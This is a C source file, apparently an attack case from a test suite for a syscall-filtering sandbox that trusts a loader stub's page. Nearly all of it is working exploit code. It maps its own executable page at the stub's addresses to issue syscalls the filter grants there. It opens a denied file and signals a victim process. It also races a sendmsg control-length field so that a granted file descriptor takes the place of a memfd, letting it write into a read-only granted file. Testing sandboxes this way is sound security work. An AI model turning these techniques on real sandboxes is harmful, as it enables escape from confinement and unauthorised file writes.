// Code of the program's own in place of the loader stub's page, at the addresses that the sentry uses: what the filter
// grants to an instruction pointer there, the program has. With a number closed behind the sentry's back and a
// descriptor that arrives behind its back too, the model takes the granted file for a memory file.
// Seconds: 2
#include "hostile.h"

static const unsigned long bases[] = {0x7e0000000000, 0x7dff00000000};
static unsigned long base;
static struct msghdr *header;

static long forged(long number, long a, long b, long c, long d, long e, long f) {
    register long r10 asm("r10") = d, r8 asm("r8") = e, r9 asm("r9") = f;
    long result;
    asm volatile("call *%[code]" : "=a"(result)
                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [code] "r"(base + 0x200)
                 : "rcx", "r11", "memory");
    return result;
}

static bool place_code(int way) {
    const unsigned char code[] = {0x0f, 0x05, 0xc3};
    char *page = (char *)base;
    if (way == 0) {
        munmap(page, 4096);
        page = mmap((void *)base, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    } else if (way == 1) {
        page = mmap((void *)base, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    } else if (way == 2) {
        if (mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) return false;
    } else {
        char *own = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        page = mremap(own, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)base);
    }
    if (page != (char *)base) return false;
    memcpy(page + 0x200, code, sizeof code);
    return true;
}

static void flipper(void) {
    while (1) {
        header->msg_controllen = CMSG_SPACE(sizeof(int));
        for (int i = 0; i < 40; i++) asm volatile("pause");
        header->msg_controllen = 0;
        for (int i = 0; i < 40; i++) asm volatile("pause");
    }
}

static void calls(void) {
    long fd = forged(SYS_openat, AT_FDCWD, (long)denied_path, O_RDWR, 0, 0, 0);
    if (fd >= 0) succeeded("opened the host's file from the stub's page");
    if (forged(SYS_kill, arena.victim, SIGUSR1, 0, 0, 0, 0) == 0) succeeded("signalled from the stub's page");
    for (long number = 1000; number < 1010; number++) forged(number, 0, 0, 0, 0, 0, 0);
    int memory = memfd_create("own", 0), kept = dup(memory);
    ftruncate(memory, 1);
    char byte;
    if (forged(SYS_close, memory, 0, 0, 0, 0, 0) == 0 && fcntl(memory, F_GETFD) >= 0 &&
        RAW(SYS_pread64, memory, &byte, 1, 0) == -EBADF)
        succeeded("closed a descriptor that the sentry takes for open");
    close(memory), close(kept);
}

static void substitute(void) {
    char *page = shared_pages(4096, PROT_READ | PROT_WRITE), *control = page + 512;
    header = (struct msghdr *)page;
    struct iovec *data = (struct iovec *)(page + 256);
    *data = (struct iovec){page + 1024, 1};
    int pair[2], granted = open("/granted/file", O_RDONLY);
    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    racer(flipper);
    while (left() > 0) {
        int memory = memfd_create("own", 0);
        ftruncate(memory, 64);
        if (forged(SYS_close, memory, 0, 0, 0, 0, 0) != 0) return;
        for (int i = 0; i < 50 && left() > 0; i++) {
            struct cmsghdr *head = (struct cmsghdr *)control;
            *head = (struct cmsghdr){CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
            memcpy(CMSG_DATA(head), &granted, sizeof granted);
            *header = (struct msghdr){.msg_iov = data, .msg_iovlen = 1, .msg_control = control};
            if (RAW(SYS_sendmsg, pair[0], header, MSG_DONTWAIT) < 0) continue;
            if (RAW(SYS_recvmsg, pair[1], header, MSG_DONTWAIT) < 0)
                RAW(SYS_recvfrom, pair[1], page + 1024, 1, MSG_DONTWAIT);
            round_done();
            char text[8] = "";
            if (RAW(SYS_pread64, memory, text, 7, 0) != 7 || strcmp(text, "granted")) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", memory);
            int writable = open(path, O_RDWR);
            if (writable >= 0 && pwrite(writable, "written\n", 8, 0) == 8) {
                succeeded("wrote into the granted file");
                return;
            }
            break;
        }
        close(memory);
    }
}

static void attack(void) {
    for (unsigned at = 0; at < 2; at++) {
        base = bases[at];
        for (int way = 0; way < 4; way++) {
            // A page of the stub may be gone for good afterwards: each way has a process of its own.
            pid_t pid = fork();
            if (pid == 0) {
                if (place_code(way)) {
                    calls();
                    if (way == 1) substitute();
                }
                round_done();
                _exit(0);
            }
            waitpid(pid, NULL, 0);
        }
    }
}
